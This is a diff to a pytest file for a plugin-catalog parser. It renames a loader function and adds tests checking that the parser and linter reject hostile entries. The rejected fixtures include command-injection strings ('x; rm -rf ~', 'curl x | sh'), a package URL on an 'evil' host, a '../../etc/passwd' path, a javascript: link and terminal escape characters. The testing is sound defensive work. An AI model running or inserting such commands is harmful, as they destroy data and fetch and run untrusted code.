@@ -12,7 +12,7 @@ import pytest
 from fastrtc_registry.catalog import (
     MAX_CATALOG_BYTES,
     SCHEMA_VERSION,
-    default_catalog,
+    load_catalog,
     embedded_catalog,
     embedded_catalog_path,
     parse_catalog,
@@ -58,23 +58,23 @@ def test_embedded_catalog_lists_the_published_plugins_and_builtins() -> None:
     assert catalog.warnings == ()
 
 
-def test_default_catalog_reads_a_local_path(legacy_catalog: Path) -> None:
-    catalog = default_catalog()
+def test_load_catalog_reads_a_local_path(legacy_catalog: Path) -> None:
+    catalog = load_catalog(network=False)
     assert catalog.source == str(legacy_catalog)
     assert [e.name for e in catalog.entries] == ["legacy", "uninstalled"]
 
 
-def test_default_catalog_reads_a_file_url(
+def test_load_catalog_reads_a_file_url(
     monkeypatch: pytest.MonkeyPatch, legacy_catalog: Path
 ) -> None:
     monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", legacy_catalog.as_uri())
-    assert [e.name for e in default_catalog().entries] == ["legacy", "uninstalled"]
+    assert [e.name for e in load_catalog(network=False).entries] == ["legacy", "uninstalled"]
 
 
-def test_default_catalog_refuses_other_schemes(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_load_catalog_refuses_other_schemes(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", "ftp://127.0.0.1/registry.json")
     with pytest.raises(CatalogError, match="use an http"):
-        default_catalog()
+        load_catalog(network=False)
 
 
 def test_load_vad_through_the_catalog(legacy_catalog: Path, in_env: object) -> None:
@@ -137,14 +137,17 @@ BAD_DOCUMENTS = {
     "invalid-utf8": (b'{"schema_version": 1, "plugins": [{"name": "\xff"}]}', "not UTF-8"),
     "top-level-list": (b"[]", "top level must be a JSON object"),
     "schema-version-string": (b'{"schema_version": "1", "plugins": []}', "/schema_version"),
-    "plugins-not-a-list": (b'{"schema_version": 1, "plugins": {}}', "/plugins: must be a list"),
+    "plugins-not-a-list": (
+        b'{"schema_version": 1, "plugins": {}}',
+        "/plugins: the field 'plugins' must be a list",
+    ),
     "wrong-field-type": (_doc({**VAD, "name": 7}), "/plugins/0/name"),
     "unknown-kind": (_doc({**VAD, "kind": "stt"}), "/plugins/0/kind"),
     "duplicate-names": (
         _doc(VAD, {**VAD, "name": "Energy", "package": "other"}),
         "duplicate vad plugin name 'energy'",
     ),
-    "path-like-name": (_doc({**VAD, "name": "../../etc/passwd"}), "looks like a file path"),
+    "path-like-name": (_doc({**VAD, "name": "../../etc/passwd"}), "is not a valid plugin name"),
     "shell-in-package": (_doc({**VAD, "package": "x; rm -rf ~"}), "/plugins/0/package"),
     "javascript-link": (_doc({**VAD, "demo": "javascript:alert(1)"}), "not an http(s) URL"),
     "bad-object": (_doc({**VAD, "object": "a/b.py"}), "not a 'module:attr' reference"),
@@ -206,7 +209,7 @@ def test_local_file_over_the_size_limit(tmp_path: Path, monkeypatch: pytest.Monk
     big.write_bytes(b" " * (MAX_CATALOG_BYTES + 10) + b"{}")
     monkeypatch.setenv("FASTRTC_PLUGINS_REGISTRY_URL", str(big))
     with pytest.raises(CatalogError, match="limit for a catalog"):
-        default_catalog()
+        load_catalog(network=False)
 
 
 def test_cli_reports_a_hostile_catalog_in_one_line(good_env, tmp_path: Path) -> None:
@@ -215,6 +218,62 @@ def test_cli_reports_a_hostile_catalog_in_one_line(good_env, tmp_path: Path) -> 
     proc = good_env.run("list", env={"FASTRTC_PLUGINS_REGISTRY_URL": str(bad)})
     assert proc.returncode == 1
     assert proc.stderr.startswith("error: ")
-    assert "/plugins/0/name" in proc.stderr and "looks like a file path" in proc.stderr
+    assert "/plugins/0/name" in proc.stderr and "is not a valid plugin name" in proc.stderr
     assert "Traceback" not in proc.stderr
     assert len(proc.stderr.strip().splitlines()) == 1
+
+
+HOSTILE_TEXT = {
+    "escape-summary": ({**VAD, "summary": "x\x1b[2J"}, "/plugins/0/summary"),
+    "bidi-description": ({**VAD, "description": "a\u202eb"}, "/plugins/0/description"),
+    "shell-package": ({**VAD, "package": "fastrtc-evil; curl x | sh"}, "/plugins/0/package"),
+    "url-package": ({**VAD, "package": "fastrtc-x @ http://evil/x.whl"}, "/plugins/0/package"),
+    "huge-count": (
+        {
+            **VAD,
+            "validation": {
+                "version": "1.0",
+                "suite": "0.1.0",
+                "fastrtc": "0.0.34",
+                "python": "3.11.7",
+                "status": "passed",
+                "date": "2026-01-01",
+                "passed": 10**4000,
+            },
+        },
+        "/plugins/0/validation/passed",
+    ),
+}
+
+
+@pytest.mark.parametrize(("entry", "pointer"), HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
+def test_parser_refuses_what_registry_check_refuses(entry: dict, pointer: str) -> None:
+    """One rule set: the loader and the linter flag the same spot."""
+    from fastrtc_registry.catalog.lint import lint_bytes
+
+    data = _doc(entry)
+    with pytest.raises(CatalogError) as caught:
+        parse_catalog(data)
+    assert [p.split(":")[0] for p in caught.value.problems] == [pointer]
+    assert [p.pointer for p in lint_bytes(data, schema=False).problems] == [pointer]
+    assert "\x1b" not in str(caught.value) and "\u202e" not in str(caught.value)
+
+
+def test_every_rule_is_total_on_junk_values() -> None:
+    """Whatever a field holds, the parser answers with a CatalogError, never another error."""
+    junk = [None, True, 1.5, -1, 10**4000, "", "x" * 10_000, "\x00", [], {}, [1], {"a": 1}]
+    fields = [*VAD, "object", "summary", "description", "tags", "repository", "demo"]
+    fields += ["requires_python", "offline", "builtin", "validation", "extra"]
+    for field in fields:
+        for value in junk:
+            try:
+                parse_catalog(_doc({**VAD, field: value}))
+            except CatalogError:
+                continue
+    record = {"version": "1", "suite": "1", "fastrtc": "1", "python": "3.11", "status": "passed"}
+    for field in [*record, "date", "passed", "reason"]:
+        for value in junk:
+            try:
+                parse_catalog(_doc({**VAD, "validation": {**record, field: value}}))
+            except CatalogError:
+                continue
